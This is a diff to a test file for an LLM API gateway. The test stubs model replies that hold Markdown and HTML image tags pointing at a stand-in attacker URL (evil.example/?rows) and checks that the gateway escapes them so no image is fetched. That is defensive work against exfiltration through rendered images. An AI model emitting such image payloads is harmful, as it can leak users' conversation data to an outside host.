@@ -309,11 +309,25 @@ def test_api_gateways_events(start: Start, anthropic: LlmStub, monkeypatch: pyte
     assert gateway.get("/v1/models").json["error"]["code"] == "unauthenticated"
 
 
-def test_a_picture_in_prose_is_not_fetched(serve: Client, anthropic: LlmStub) -> None:
-    anthropic.default = Says(text="See ![rows](https://evil.example/?rows) ! [x] !")
+@pytest.mark.parametrize(
+    ("said", "told"),
+    [
+        ("See ![rows](https://evil.example/?rows) ! [x] !", "See !\\[rows](https://evil.example/?rows) ! [x] !"),
+        (
+            "<img src='//evil.example/?rows'> \\<IMG a <5 < b <",
+            "<\\img src='//evil.example/?rows'> \\<\\IMG a <5 < b <",
+        ),
+    ],
+    ids=["Markdown", "HTML"],
+)
+@pytest.mark.parametrize("before", range(7))
+def test_a_picture_in_prose_is_not_fetched(
+    serve: Client, anthropic: LlmStub, said: str, told: str, before: int
+) -> None:
+    anthropic.default = Says(text="." * before + said)
     client = serve(anthropic=anthropic)
-    assert complete(client).choices[0].message.content == "See !\\[rows](https://evil.example/?rows) ! [x] !"
-    assert text(list(stream(client, [*SAID, *SAID]))) == "See !\\[rows](https://evil.example/?rows) ! [x] !"
+    assert complete(client).choices[0].message.content == "." * before + told
+    assert text(list(stream(client, [*SAID, *SAID]))) == "." * before + told
 
 
 def test_a_provider_that_is_down_gives_way_or_is_told_of(serve: Client, anthropic: LlmStub, openai: LlmStub) -> None:
